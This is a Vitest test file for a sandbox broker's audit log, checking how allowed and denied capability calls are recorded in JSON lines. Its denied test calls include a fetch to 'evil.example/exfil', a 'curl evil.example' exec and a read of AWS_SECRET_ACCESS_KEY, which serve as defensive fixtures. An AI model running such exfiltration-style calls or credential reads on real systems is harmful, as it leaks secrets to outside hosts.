import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { createBroker, jsonlAuditSink } from "../../../sandbox/broker/index.js";
import { parseGrants } from "../../../sandbox/capabilities.js";
import { tempDir, workspace } from "../../helpers/temp.js";
import { brokerFor, recordingServer } from "./helpers.js";

describe("the audit trail", () => {
  it("records every check, allowed and denied, with the grant that allowed it or the one it needs", async () => {
    const root = await workspace({ "docs/a.md": "a" });
    const server = await recordingServer((_q, response) => response.end("ok"));
    const { call, audit } = brokerFor(root, [
      "fs.read:docs",
      "fs.write:out",
      `net:127.0.0.1:${server.port}`,
      "process:echo",
      "env:HOME",
    ]);
    const calls: [string, unknown[]][] = [
      ["fs.readFile", ["docs/a.md"]],
      ["fs.readFile", ["secret.txt"]],
      ["fs.writeFile", ["out/b.md", "b"]],
      ["fs.writeFile", ["docs/a.md", "x"]],
      ["fs.readdir", ["docs"]],
      ["fs.stat", ["docs/a.md"]],
      ["net.fetch", [`${server.origin}/path?token=secret`]],
      ["net.fetch", ["https://evil.example/exfil"]],
      ["process.exec", ["echo", ["hi"]]],
      ["process.exec", ["curl", ["evil.example"]]],
      ["env.get", ["HOME"]],
      ["env.get", ["AWS_SECRET_ACCESS_KEY"]],
      ["fs.readFile", [42]],
      ["fs.rename", ["a", "b"]],
    ];
    for (const [method, args] of calls) await call(method, ...args).catch(() => undefined);

    expect(audit.entries.map(({ time, ...rest }) => rest)).toEqual([
      { hook: "probe", method: "fs.readFile", target: "docs/a.md", allowed: true, grant: "fs.read:docs" },
      {
        hook: "probe",
        method: "fs.readFile",
        target: "secret.txt",
        allowed: false,
        needs: "fs.read:secret.txt",
      },
      { hook: "probe", method: "fs.writeFile", target: "out/b.md", allowed: true, grant: "fs.write:out" },
      {
        hook: "probe",
        method: "fs.writeFile",
        target: "docs/a.md",
        allowed: false,
        needs: "fs.write:docs/a.md",
      },
      { hook: "probe", method: "fs.readdir", target: "docs", allowed: true, grant: "fs.read:docs" },
      { hook: "probe", method: "fs.stat", target: "docs/a.md", allowed: true, grant: "fs.read:docs" },
      {
        hook: "probe",
        method: "net.fetch",
        // No query string: tokens live there.
        target: `GET ${server.origin}/path`,
        allowed: true,
        grant: `net:127.0.0.1:${server.port}`,
      },
      {
        hook: "probe",
        method: "net.fetch",
        target: "GET https://evil.example/exfil",
        allowed: false,
        needs: "net:evil.example:443",
      },
      { hook: "probe", method: "process.exec", target: "echo hi", allowed: true, grant: "process:echo" },
      {
        hook: "probe",
        method: "process.exec",
        target: "curl evil.example",
        allowed: false,
        needs: "process:curl",
      },
      { hook: "probe", method: "env.get", target: "HOME", allowed: true, grant: "env:HOME" },
      {
        hook: "probe",
        method: "env.get",
        target: "AWS_SECRET_ACCESS_KEY",
        allowed: false,
        needs: "env:AWS_SECRET_ACCESS_KEY",
      },
      // Failed before any decision: recorded as not allowed, with neither grant nor needs.
      { hook: "probe", method: "fs.readFile", target: "", allowed: false },
      { hook: "probe", method: "fs.rename", target: "a", allowed: false },
    ]);
    for (const entry of audit.entries) expect(new Date(entry.time).toISOString()).toBe(entry.time);
  });

  it("is written as JSON lines to a file whose directories it creates", async () => {
    const root = await workspace({ "docs/a.md": "a" });
    const file = join(root, ".hookyard/logs/capabilities.jsonl");
    const audit = jsonlAuditSink(file);
    const broker = createBroker({ hook: "probe", root, grants: parseGrants(["fs.read:docs"]), audit });
    await broker.call("fs.readFile", ["docs/a.md"]);
    await broker.call("fs.readFile", ["b.md"]).catch(() => undefined);
    await audit.flush();
    const lines = (await readFile(file, "utf8"))
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines).toMatchObject([
      { method: "fs.readFile", target: "docs/a.md", allowed: true },
      { method: "fs.readFile", target: "b.md", allowed: false, needs: "fs.read:b.md" },
    ]);
    await audit.close();
    audit.record({ time: "", hook: "late", method: "env.get", target: "X", allowed: false });
    await audit.flush();
    expect((await readFile(file, "utf8")).trim().split("\n")).toHaveLength(2);
    // A second sink on the same file appends.
    const again = jsonlAuditSink(file);
    again.record({ time: "", hook: "again", method: "env.get", target: "X", allowed: false });
    await again.close();
    expect((await readFile(file, "utf8")).trim().split("\n")).toHaveLength(3);
  });

  it("that cannot be written never fails the hook's call, and says so once on stderr", async () => {
    const dir = await tempDir();
    await writeFile(join(dir, "not-a-dir"), "");
    const stderr = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
    try {
      const audit = jsonlAuditSink(join(dir, "not-a-dir/logs/audit.jsonl"));
      await mkdir(join(dir, "ws"));
      const broker = createBroker({
        hook: "probe",
        root: join(dir, "ws"),
        grants: parseGrants(["env:HOME"]),
        audit,
      });
      for (let i = 0; i < 5; i++) await broker.call("env.get", ["HOME"]);
      await audit.flush();
      await audit.close();
      const warnings = stderr.mock.calls
        .map(([text]) => String(text))
        .filter((text) => text.includes("audit log"));
      expect(warnings).toHaveLength(1);
      expect(warnings[0]).toContain("cannot be written");
    } finally {
      stderr.mockRestore();
    }
  });
});
